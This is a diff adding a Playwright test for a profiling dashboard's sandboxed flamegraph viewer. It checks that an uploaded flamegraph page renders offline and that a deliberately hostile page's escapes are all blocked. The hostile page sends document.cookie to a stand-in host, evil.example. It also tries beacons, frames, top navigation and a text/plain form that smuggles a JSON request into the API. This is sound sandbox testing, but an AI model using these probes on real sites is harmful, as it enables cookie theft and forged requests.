@@ -1,0 +1,288 @@
+// library.test.mjs - the ad hoc library in a real headless Chromium
+// against the real stack (run.sh: lighttpd with HTTP basic auth +
+// ember-fcgi + ember-workers + PostgreSQL), logged in as EMBER_TEST_USER.
+//
+//  - an agent's own flamegraph page (tests/data/library/agent_flamegraph.html,
+//    uploaded through /api/v2/profiles for a profile_request's command)
+//    renders, zooms and searches in the sandboxed frame with every
+//    non-loopback request aborted, from the files under /vendor/agent/;
+//    reached from the request on the status page (lineage);
+//  - a hostile page's ways out (navigation of the top window and of its
+//    own frame, fetch/XHR/img/beacon/WebSocket/frames/forms, to another
+//    site and to the API with credentials) are all blocked;
+//  - the library panel: Import… by file input and by drag and drop (with
+//    its progress bar), pin/unpin, title and note, q= search, delete with
+//    confirmation, and the audit panel on the status page.
+//
+// `node library.test.mjs --list` prints the test names.
+
+import fs from 'node:fs';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import assert from 'node:assert/strict';
+import { ART, BASE, USER, browser, heartbeat, operatorAuth, page, post, psql, runTap, sleep,
+	upload, waitFor } from './stack.mjs';
+
+const HERE = path.dirname(fileURLToPath(import.meta.url));
+const DATA = path.join(HERE, '..', 'data', 'library');
+const AGENT_HTML = fs.readFileSync(path.join(DATA, 'agent_flamegraph.html'), 'utf8');
+const SVC = 'library';
+const ACTOR = USER ? USER.split(':')[0] : 'anonymous';
+const LIB1 = { service: SVC, host: 'lib-1', ip: '10.9.0.1' };
+const LIB2 = { service: SVC, host: 'lib-2', ip: '10.9.0.2' };
+const EVIL = 'http://evil.example';
+// The files the agent's page loads (its IE-only two stay in a comment).
+const VENDOR = ['bootstrap-3.3.7.min.css', 'd3-flamegraph-2.0.6.css', 'd3-4.13.0.min.js',
+	'd3-tip-0.9.1.js', 'd3-flamegraph-2.0.6.min.js'];
+
+// The hostile page: every way out it can think of, each outcome recorded
+// (with the CSP violations it saw) in #probe and posted to the parent; on
+// the parent's "navigate" it tries to take its own frame to another site.
+const HOSTILE = `<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>hostile</title>
+<link rel="stylesheet" href="${EVIL}/style.css">
+<link rel="prefetch" href="${EVIL}/prefetch">
+</head><body>
+<h1 id="marker">HOSTILE</h1><pre id="probe">pending</pre>
+<div style="width:10px;height:10px;background:url(${EVIL}/bg.png)"></div>
+<form id="out" method="POST" action="${EVIL}/steal"><input name="x" value="1"></form>
+<form id="api" method="POST" action="/api/metrics/profile_request" enctype="text/plain">
+<input name='{"service_name":"hostile-form","request_type":"start","continuous":false,"duration":60,"frequency":11,"profiling_mode":"cpu","target_hosts":{"lib-2":null},"x":"' value='"}'></form>
+<script>
+(async function () {
+	var r = { violations: [] };
+	document.addEventListener('securitypolicyviolation', function (e) {
+		r.violations.push(e.effectiveDirective + ' ' + e.blockedURI);
+	});
+	async function f(name, url, opts) {
+		try { var a = await fetch(url, opts); r[name] = 'LEAK:' + a.status; }
+		catch (e) { r[name] = 'blocked:' + e.name; }
+	}
+	function x(name, url, cred) {
+		return new Promise(function (done) {
+			try {
+				var q = new XMLHttpRequest();
+				q.open('GET', url);
+				q.withCredentials = cred;
+				q.onload = function () { r[name] = 'LEAK:' + q.status; done(); };
+				q.onerror = function () { r[name] = 'blocked:error'; done(); };
+				q.send();
+			} catch (e) { r[name] = 'blocked:' + e.name; done(); }
+		});
+	}
+	function img(name, url) {
+		return new Promise(function (done) {
+			var i = new Image();
+			i.onload = function () { r[name] = 'LEAK:loaded'; done(); };
+			i.onerror = function () { r[name] = 'blocked:error'; done(); };
+			i.src = url;
+		});
+	}
+	function t(name, fn) {
+		try { r[name] = 'LEAK:' + String(fn()).slice(0, 100); } catch (e) { r[name] = 'blocked:' + e.name; }
+	}
+	await f('fetch_other', '${EVIL}/fetch?d=' + encodeURIComponent(document.cookie), { mode: 'no-cors' });
+	await f('fetch_api', '/api/services', { credentials: 'include' });
+	await f('fetch_api_post', '/api/metrics/profile_request', { method: 'POST', credentials: 'include',
+		headers: { 'Content-Type': 'text/plain' }, body: '{"service_name":"hostile-fetch"}' });
+	await x('xhr_other', '${EVIL}/xhr', false);
+	await x('xhr_api', '/api/audit', true);
+	await img('img_other', '${EVIL}/pixel.png');
+	await img('img_api', '/api/services');
+	t('beacon_other', function () { if (!navigator.sendBeacon('${EVIL}/beacon', 'x')) throw { name: 'refused' }; return 'queued'; });
+	t('beacon_api', function () { if (!navigator.sendBeacon('/api/metrics/profile_request', 'x')) throw { name: 'refused' }; return 'queued'; });
+	t('websocket', function () { return new WebSocket('ws://evil.example/ws').url; });
+	t('popup', function () { var w = window.open('${EVIL}/popup'); if (!w) throw { name: 'PopupBlocked' }; return 'opened'; });
+	t('subframe', function () {
+		var fr = document.createElement('iframe');
+		fr.src = '${EVIL}/frame';
+		document.body.appendChild(fr);
+		return 'added';
+	});
+	t('form_other', function () { document.getElementById('out').submit(); return 'submitted'; });
+	t('form_api', function () { document.getElementById('api').submit(); return 'submitted'; });
+	t('top_navigation', function () { top.location.href = '${EVIL}/top'; return 'navigated'; });
+	await new Promise(function (ok) { setTimeout(ok, 700); });
+	r.done = true;
+	document.getElementById('probe').textContent = JSON.stringify(r);
+	parent.postMessage({ probe: r }, '*');
+	window.addEventListener('message', function (e) {
+		if (e.data === 'navigate')
+			location.href = '${EVIL}/self';
+	});
+})();
+</script></body></html>`;
+
+const S = {};		// state shared between tests
+let ctx;
+
+// net: what the context asked for.  Every request that would leave
+// loopback is aborted and recorded in net.left.
+const net = { left: [], vendor: [], failed: [], sockets: [] };
+const loopback = (u) => ['127.0.0.1', 'localhost', '[::1]'].includes(new URL(u).hostname);
+
+async function stack() {
+	ctx = await browser();
+	await ctx.route('**/*', (route) => {
+		const u = route.request().url();
+		if (loopback(u))
+			return route.continue();
+		net.left.push(u);
+		return route.abort('blockedbyclient');
+	});
+	ctx.on('response', (r) => {
+		if (new URL(r.url()).pathname.startsWith('/vendor/agent/'))
+			net.vendor.push({ file: path.basename(new URL(r.url()).pathname), status: r.status(),
+				type: r.headers()['content-type'] || '' });
+	});
+	ctx.on('requestfailed', (r) => net.failed.push(`${r.url()} ${r.failure()?.errorText}`));
+	const p = S.p = await page(ctx);
+	p.on('websocket', (w) => net.sockets.push(w.url()));
+	p.console = [];
+	p.on('console', (m) => p.console.push(m.text()));
+	return p;
+}
+
+async function frameOf(p, sel) {
+	const el = await p.waitForSelector('#frame-box iframe');
+	const fr = await el.contentFrame();
+	await fr.waitForSelector(sel);
+	return { el, fr };
+}
+
+// The library panel's rows: file, the cells' text, the pin button.
+async function libRows(p) {
+	return p.$$eval('#library-panel tbody tr', (trs) => trs.map((tr) => ({
+		file: tr.dataset.file, text: tr.textContent, cells: [...tr.cells].map((c) => c.textContent),
+		pinned: tr.querySelector('button[aria-pressed]')?.getAttribute('aria-pressed'),
+	})));
+}
+
+async function libRow(p, file) {
+	return (await libRows(p)).find((r) => r.file === file);
+}
+
+// A native dialog's answer: the next one gets `answer` (false dismisses);
+// resolves to its message.
+function answerDialog(p, answer) {
+	return new Promise((resolve) => p.once('dialog', async (d) => {
+		const m = { type: d.type(), message: d.message(), default: d.defaultValue() };
+		if (answer === false)
+			await d.dismiss();
+		else
+			await d.accept(answer === true ? undefined : answer);
+		resolve(m);
+	}));
+}
+
+const TESTS = [
+	['seed: a profile_request by the operator, its command, the agent page uploaded for it', async () => {
+		for (const h of [LIB1, LIB2])
+			assert.equal((await heartbeat(h)).status, 200);
+		const pr = await post('/api/metrics/profile_request', JSON.stringify({
+			service_name: SVC, request_type: 'start', continuous: false, duration: 60, frequency: 11,
+			profiling_mode: 'cpu', target_hosts: { [LIB1.host]: null } }), operatorAuth());
+		assert.equal(pr.status, 200, pr.text);
+		S.requestId = pr.json.profiling_request_id || pr.json.request_id;
+		assert.ok(S.requestId, `request id in ${pr.text}`);
+		const hb = await heartbeat(LIB1);
+		assert.ok(hb.json.command_id, `heartbeat gave a command: ${hb.text}`);
+		let r = await upload({ ...LIB1, start: Date.now() - 90e3, html: AGENT_HTML, commandId: hb.json.command_id });
+		assert.equal(r.status, 200, r.text);
+		r = await upload({ ...LIB2, start: Date.now() - 60e3, html: HOSTILE });
+		assert.equal(r.status, 200, r.text);
+		await waitFor(() => Number(psql('select count(*) from AdhocFlamegraphMetadata')) === 2, 'the workers');
+		const file = (h) => psql(`select s3_key from AdhocFlamegraphMetadata where hostname = '${h}'`).split('/').pop();
+		S.agentFile = file(LIB1.host);
+		S.hostileFile = file(LIB2.host);
+	}],
+	['lineage: the request on the status page links to the flamegraph its command produced', async () => {
+		const p = await stack();
+		await p.goto(`${BASE}/?service=${SVC}`);
+		const li = p.locator('#audit-list li', { hasText: 'profile_request' });
+		await li.waitFor();
+		assert.match(await li.textContent(), new RegExp(`${ACTOR} profile_request ${SVC} ${S.requestId}`));
+		await li.locator('button', { hasText: 'Flamegraphs' }).click();
+		const a = li.locator('a');
+		await a.waitFor();
+		assert.equal(await a.textContent(), S.agentFile);
+		const href = new URL(await a.getAttribute('href'), BASE);
+		assert.equal(href.pathname, '/adhoc.html');
+		assert.equal(href.searchParams.get('file'), S.agentFile);
+		await a.click();
+		await p.waitForURL(/\/adhoc\.html/);
+	}],
+	['offline: the agent\'s page draws its flamegraph in the sandboxed frame from /vendor/agent/', async () => {
+		const p = S.p;
+		const { el, fr } = await frameOf(p, '#chart svg');
+		assert.equal(await el.getAttribute('sandbox'), 'allow-scripts allow-forms');
+		// d3-flame-graph widens each frame's rect after its transition.
+		await fr.waitForFunction(() => {
+			const r = document.querySelector('#chart svg g[name="root"] rect');
+			return r && Number(r.getAttribute('width')) > 900;
+		});
+		const names = await fr.$$eval('#chart svg g', (gs) => gs.map((g) => g.getAttribute('name')).sort());
+		assert.deepEqual(names, ['compute_checksum', 'hash_block', 'main', 'nginx', 'ngx_epoll_process_events',
+			'python3', 'read_input', 'root']);
+		// The page's CSS arrived too: bootstrap's .btn and the flamegraph's.
+		assert.equal(await fr.$eval('a.btn-primary', (a) => getComputedStyle(a).color), 'rgb(255, 255, 255)',
+			'bootstrap.min.css applied');
+		assert.equal(await fr.$eval('.d3-flame-graph-label', (d) => getComputedStyle(d).fontFamily), 'Verdana',
+			'd3-flamegraph.css applied');
+		const got = Object.fromEntries(net.vendor.map((v) => [v.file, v]));
+		for (const f of VENDOR) {
+			assert.ok(got[f], `${f} requested (got ${Object.keys(got)})`);
+			assert.equal(got[f].status, 200, `${f} status`);
+			assert.match(got[f].type, f.endsWith('.css') ? /^text\/css/ : /^text\/javascript/, f);
+		}
+		assert.deepEqual(p.errors, []);
+	}],
+	['offline: a click zooms in, Search highlights, Reset zoom and Clear undo them', async () => {
+		const p = S.p;
+		const fr = (await frameOf(p, '#chart svg')).fr;
+		const width = (name) => fr.$eval(`#chart svg g[name="${name}"] rect`, (r) => Number(r.getAttribute('width')));
+		const fill = (name) => fr.$eval(`#chart svg g[name="${name}"] rect`, (r) => r.getAttribute('fill'));
+		const before = await width('compute_checksum');
+		assert.ok(before < 600, `compute_checksum is ${before} px before the zoom`);
+		await fr.click('#chart svg g[name="compute_checksum"]');
+		await fr.waitForFunction(() => Number(document.querySelector(
+			'#chart svg g[name="compute_checksum"] rect').getAttribute('width')) > 900);
+		await fr.waitForFunction(() => !document.querySelector('#chart svg g[name="nginx"]'));
+		assert.ok(p.console.includes('Clicked on compute_checksum'), `console: ${p.console}`);
+		await fr.fill('#term', 'hash_');
+		await fr.click('a.btn-primary');	// Search (a javascript: link)
+		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="hash_block"] rect')
+			.getAttribute('fill') === '#E600E6');
+		assert.notEqual(await fill('compute_checksum'), '#E600E6');
+		await fr.click('a.btn:text("Clear")');
+		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="hash_block"] rect')
+			.getAttribute('fill') !== '#E600E6');
+		await fr.click('a.btn:text("Reset zoom")');
+		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="nginx"] rect'));
+		// Enter in the search box submits the page's form, which searches.
+		await fr.fill('#term', 'read_');
+		await fr.press('#term', 'Enter');
+		await fr.waitForFunction(() => document.querySelector('#chart svg g[name="read_input"] rect')
+			.getAttribute('fill') === '#E600E6', null, { timeout: 3000 });
+		assert.equal(new URL(fr.url()).pathname, '/api/metrics/adhoc_flamegraph_content', 'the frame stayed');
+		assert.deepEqual(p.errors, []);
+		await p.screenshot({ path: path.join(ART, 'library-offline.png') });
+	}],
+	['offline: no request left loopback and none failed', async () => {
+		assert.deepEqual(net.left, [], 'requests aborted on their way out');
+		assert.deepEqual(net.sockets, []);
+		// bootstrap.css names its glyph fonts (../fonts/, not shipped): the
+		// page's policy refuses them before they are asked for; no glyph
+		// is used.  The frame's first load may be replaced by its second.
+		assert.deepEqual(net.failed.filter((f) => !/\/vendor\/fonts\/glyphicons-halflings-regular\.\w+ csp$/.test(f) &&
+			!/\/adhoc_flamegraph_content\?.* net::ERR_ABORTED$/.test(f)), []);
+	}],
+];
+
+const failed = await runTap(TESTS, async (n) => {
+	if (S.p && !S.p.isClosed())
+		await S.p.screenshot({ path: path.join(ART, `library-fail-${n}.png`) });
+});
+if (ctx)
+	await ctx.close();
+process.exit(failed ? 1 : 0);
